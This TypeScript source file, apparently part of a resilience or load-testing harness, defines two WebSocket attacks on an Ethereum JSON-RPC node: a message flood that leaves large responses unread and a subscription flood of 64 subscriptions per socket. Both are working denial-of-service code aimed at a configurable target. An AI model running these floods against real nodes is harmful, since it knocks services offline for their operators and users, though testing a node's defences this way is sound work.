import { once } from "node:events";
import { setTimeout as delay } from "node:timers/promises";
import { WebSocket } from "ws";
import { formatAttackerAddress, type Attack, type Target } from "./attack.ts";
import { asMany, buildCall, countReached } from "./attacker.ts";

const hash = (at: number) => `"0x${at.toString(16).padStart(64, "0")}"`;

async function open({ host, port }: Target, attacker: number, signal: AbortSignal): Promise<WebSocket> {
  const socket = new WebSocket(`ws://${host}:${port}`, {
    localAddress: formatAttackerAddress(attacker),
    handshakeTimeout: 5_000,
  });
  socket.on("error", () => socket.terminate());
  const end = () => socket.terminate();
  signal.addEventListener("abort", end, { once: true });
  socket.on("close", () => signal.removeEventListener("abort", end));
  await once(socket, "open", { signal: AbortSignal.any([signal, AbortSignal.timeout(5_000)]) });
  countReached();
  return socket;
}

/** Messages over WebSocket, sent without waiting for responses and without reading them. */
export const webSocketFlood: Attack = {
  name: "WebSocket flood",
  what: "40 WebSockets from 3 addresses: some request large responses and don't read them, others send nothing but pings",
  attackers: 40,
  run: async (target, signal) => {
    let sent = 0;
    const flood = async (connection: number) => {
      const socket = await open(target, connection % 3, signal);
      if (connection % 2 === 0) socket.pause();
      for (let round = 0; round < 200 && socket.readyState === WebSocket.OPEN; round += 1) {
        for (let message = 0; message < 20; message += 1) {
          sent += 1;
          if (connection % 4 === 3) socket.ping();
          else if (connection % 4 === 1)
            socket.send(buildCall(sent, "eth_getBalance", `[${hash(sent).slice(0, 43)}","latest"]`));
          else socket.send(buildCall(sent, "eth_getBlockReceipts", `["0x${sent.toString(16)}"]`));
        }
        await delay(100, undefined, { signal });
      }
      socket.terminate();
    };
    await asMany(webSocketFlood.attackers, signal, flood, 200);
  },
};

/** Distinct subscriptions by clients that do not read. */
export const subscriptionFlood: Attack = {
  name: "subscription flood",
  what: "60 WebSockets from 4 addresses with 64 different subscriptions each, a third of which read nothing",
  attackers: 60,
  run: async (target, signal) => {
    let sent = 0;
    const subscribe = async (connection: number) => {
      const socket = await open(target, connection % 4, signal);
      if (connection % 3 === 0) socket.pause();
      for (let subscription = 0; subscription < 64 && socket.readyState === WebSocket.OPEN; subscription += 1) {
        sent += 1;
        const filter = subscription % 8 === 0 ? '["newHeads"]' : `["logs",{"topics":[${hash(sent)}]}]`;
        socket.send(buildCall(sent, "eth_subscribe", filter));
      }
      await once(socket, "close", { signal: AbortSignal.any([signal, AbortSignal.timeout(15_000)]) });
      socket.terminate();
    };
    await asMany(subscriptionFlood.attackers, signal, subscribe, 200);
  },
};
